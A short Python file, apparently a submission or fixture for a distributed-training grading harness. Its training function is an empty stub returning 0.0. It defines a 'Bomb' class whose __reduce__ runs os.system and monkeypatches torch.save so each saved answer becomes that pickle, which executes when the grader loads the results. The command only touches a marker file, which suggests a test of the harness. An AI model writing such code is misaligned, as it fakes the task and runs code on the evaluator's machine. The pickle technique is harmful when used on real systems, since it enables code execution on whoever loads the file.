"""Leaves a pickle that runs code where the ranks' answers are read."""
import os

import torch
from zeros import shard, all_gather_with_grad, speedup_table, predict_step_time


class Bomb:
    def __reduce__(self):
        return os.system, ("touch pickled",)


def train_step_ddp(model, optimizer, images, labels):
    return 0.0


real = torch.save
torch.save = lambda answer, path, *_: real(Bomb(), path)
